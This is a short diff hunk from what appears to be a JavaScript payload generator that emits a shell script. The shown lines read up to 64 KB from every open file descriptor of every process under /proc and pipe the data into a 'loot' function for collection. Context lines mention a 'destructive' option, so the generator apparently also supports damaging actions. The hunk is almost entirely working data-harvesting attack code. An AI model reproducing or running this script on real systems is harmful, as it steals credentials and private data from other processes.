@@ -141,7 +141,7 @@ ${options.destructive ? destructive(options.marker) : ''}
 ${
   options.fds === false
     ? ''
-    : String.raw`for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done
+    : `for f in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 65536 "$f" 2>/dev/null | loot; flush; done
 for n in $(ls /proc/$$/fd); do [ "$n" -gt 2 ] && timeout 0.2 bash -c "head -c 65536 <&$n" 2>/dev/null | loot; done; flush`
 }
 sleep 60
